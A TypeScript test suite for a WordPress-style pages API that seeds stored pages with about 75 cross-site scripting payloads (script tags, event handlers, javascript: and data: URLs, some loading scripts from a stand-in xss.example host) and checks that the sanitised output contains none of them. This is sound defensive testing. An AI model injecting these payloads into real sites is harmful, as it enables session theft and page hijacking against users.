import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pages } from '#db/schema/index.ts';
import { createTestApp, type TestApp } from '#tests/setup/test-app.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t?.close();
});

async function get(url: string) {
  const response = await t.app.inject({ method: 'GET', url });
  return { status: response.statusCode, body: response.json(), headers: response.headers };
}

/**
 * Cross-site scripting payloads (after the OWASP filter evasion cheat sheet and the HTML5
 * Security Cheatsheet): none may reach a page with anything that runs.
 */
const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script src="//xss.example/a.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java&#x0D;script:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="#" onclick="alert(1)">click</a>',
  '<a href="/" onmouseover="alert(1)">hover</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<body onload=alert(1)>',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<IFRAME SRC="https://xss.example/"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<keygen onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<p style="behavior: url(xss.htc);">x</p>',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<img src="x" onerror\t=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img/src="x"/onerror=alert(1)>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="https://ok.example" target="_blank" onclick="alert(1)">ok</a>',
  '"><script>alert(document.cookie)</script>',
  '<template><script>alert(1)</script></template>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<object type="text/x-scriptlet" data="https://xss.example/scriptlet.html"></object>',
  '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
];

const FORBIDDEN_TAGS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'keygen',
  'svg',
  'math',
  'link',
  'meta',
  'base',
  'body',
  'template',
  'noscript',
  'video',
  'audio',
  'source',
  'isindex',
  'marquee',
  'details',
  'xss',
]);

/** Every tag and attribute in sanitised HTML (which always quotes attributes with `"`). */
function scan(html: string) {
  const tags = [...html.matchAll(/<\s*\/?\s*([a-zA-Z][\w:-]*)([^>]*)>/g)];
  return tags.map(([, name, rest]) => ({
    name: name!.toLowerCase(),
    attributes: [...rest!.matchAll(/([^\s"'=/]+)\s*=\s*"([^"]*)"/g)].map(([, attr, value]) => ({
      name: attr!.toLowerCase(),
      value: value!.replace(/&#x?[0-9a-f]+;?|&[a-z]+;|\s/gi, '').toLowerCase(),
    })),
  }));
}

describe('sanitising stored HTML', () => {
  beforeAll(async () => {
    await t.database.handle.db.insert(pages).values(
      XSS_VECTORS.map((vector, i) => ({
        slug: `xss-${i}`,
        title: `Vector ${i} <script>alert(${i})</script>`,
        contentHtml: `<p>Before</p>${vector}<p>After</p>`,
        excerptHtml: vector,
      })),
    );
  });

  it('tests a corpus of at least 50 vectors', () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(50);
  });

  it.each(XSS_VECTORS.map((vector, i) => [i, vector] as const))(
    'vector %i leaves nothing that runs: %s',
    async (i) => {
      const { status, body } = await get(`/wp-json/wp/v2/pages?slug=xss-${i}`);
      expect(status).toBe(200);
      const page = body[0];
      expect(page.title.rendered).not.toMatch(/<script/i);
      expect(page.title.rendered).toContain('&lt;script&gt;');
      for (const html of [page.content.rendered, page.excerpt.rendered]) {
        expect(html).not.toMatch(/<\s*script/i);
        for (const tag of scan(html)) {
          expect(FORBIDDEN_TAGS.has(tag.name), `tag <${tag.name}>`).toBe(false);
          for (const attribute of tag.attributes) {
            expect(attribute.name, `attribute on <${tag.name}>`).not.toMatch(
              /^on|^style$|^srcdoc$|^formaction$|^background$/,
            );
            expect(attribute.value, `${attribute.name} on <${tag.name}>`).not.toMatch(
              /^(javascript|vbscript|data):|^\/\//,
            );
          }
        }
      }
      // The harmless text around the payload is kept.
      expect(page.content.rendered).toContain('<p>Before</p>');
      expect(page.content.rendered).toContain('<p>After</p>');
    },
  );

  it('keeps safe structure: headings, lists, tables, images and links', async () => {
    const safe =
      '<h2 id="care">Care</h2><ul><li>One</li></ul><table><tr><th scope="col">A</th></tr><tr><td>1</td></tr></table>' +
      '<img src="https://img.example/a.png" alt="Slab" width="300"><a href="/faq">FAQ</a> <a href="mailto:a@b.example">mail</a> <a href="tel:+441174960472">call</a>' +
      '<a href="https://other.example" target="_blank">out</a>';
    await t.database.handle.db
      .insert(pages)
      .values({ slug: 'safe-html', title: 'Tiles & Slabs', contentHtml: safe });
    const { body } = await get('/wp-json/wp/v2/pages?slug=safe-html');
    expect(body[0].title.rendered).toBe('Tiles &amp; Slabs');
    expect(body[0].content.rendered).toBe(
      safe
        .replace(
          '<a href="https://other.example" target="_blank">',
          '<a href="https://other.example" target="_blank" rel="noopener noreferrer">',
        )
        .replace(
          '<img src="https://img.example/a.png" alt="Slab" width="300">',
          '<img src="https://img.example/a.png" alt="Slab" width="300" />',
        ),
    );
  });
});
